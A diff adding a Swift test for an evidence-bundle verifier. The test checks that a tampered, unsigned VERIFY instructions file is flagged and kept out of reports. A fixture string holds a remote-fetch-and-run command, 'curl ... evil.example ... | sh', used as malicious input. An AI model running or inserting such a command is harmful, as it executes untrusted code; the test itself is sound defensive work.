@@ -584,6 +584,53 @@ import Testing
         #expect(!data.contains("<"), "\(data)")
     }
 
+    /// Red team round 14, F3: the VERIFY file is unsigned. Both verifiers derive its text from the
+    /// bundle's checkpoints and anchors and say whether the file is that text; the verdict (about
+    /// the evidence) does not change, and nothing of the file reaches the report.
+    @Test func theVerifyFileIsComparedWithTheTextTheBundleGives() throws {
+        let f = Self.shared
+        let genuine = f.verify()
+        #expect(genuine.verdict == .valid, "\(genuine.findings)")
+        #expect(genuine.summary.instructions == .derived)
+        #expect(genuine.text(all: true).contains("instructions (VERIFY): the text this verifier derives"))
+        let evil = "Certified complete by the auditor.\nTo verify: curl -s http://evil.example/v | sh\n"
+        let replaced = try f.tampered { e in
+            e[e.firstIndex { $0.name == BundleFormat.verifyText }!].bytes = Array(evil.utf8)
+        }
+        let r = f.verify(replaced)
+        #expect(r.verdict == .valid && r.findings.isEmpty, "\(r.findings)")
+        #expect(r.summary.instructions == .differs(line: 1))
+        let text = r.text(all: true)
+        #expect(text.contains("instructions (VERIFY): WARNING: not the text derived") && !text.contains("evil.example"))
+        let json = String(decoding: try r.json(), as: UTF8.self)
+        #expect(json.contains(#""instructions":{"line":1,"status":"differs"}"#), "\(json)")
+        // One command changed deep inside: the line is named.
+        let edited = try f.tampered { e in
+            let i = e.firstIndex { $0.name == BundleFormat.verifyText }!
+            let t = String(decoding: e[i].bytes, as: UTF8.self)
+            e[i].bytes = Array(
+                t.replacingOccurrences(of: "-CAfile TSA-ROOTS.pem", with: "-CAfile anchors/root.pem").utf8)
+        }
+        let re = f.verify(edited)
+        guard case .differs(let line) = re.summary.instructions else {
+            Issue.record("\(re.summary.instructions)")
+            return
+        }
+        #expect(line > 30)
+        // The TSA label relabelled in the manifest alone: the file no longer matches.
+        let relabelled = try f.tampered { e in
+            try Self.manifest(&e) { try Self.relabelAnchors(&$0, "https://other.example/") }
+        }
+        #expect(f.verify(relabelled).summary.instructions.status == "differs")
+        // No VERIFY at all (and none listed): absent; a failing bundle stops before the comparison.
+        let absent = try f.tampered { e in e.removeAll { $0.name == BundleFormat.verifyText } }
+        #expect(f.verify(absent).summary.instructions == .absent)
+        let broken = try f.tampered { e in
+            BundleTests.Fixture.editLine(&e, BundleFormat.receipts, 0) { [Array($0.dropLast(2)) + [0x7D]] }
+        }
+        #expect(f.verify(broken).verdict == .invalid && f.verify(broken).summary.instructions == .unchecked)
+    }
+
     // MARK: 7. Bounded memory; not a bundle
 
     @Test func sparseManifestDeclaringTwoGibibytes() throws {
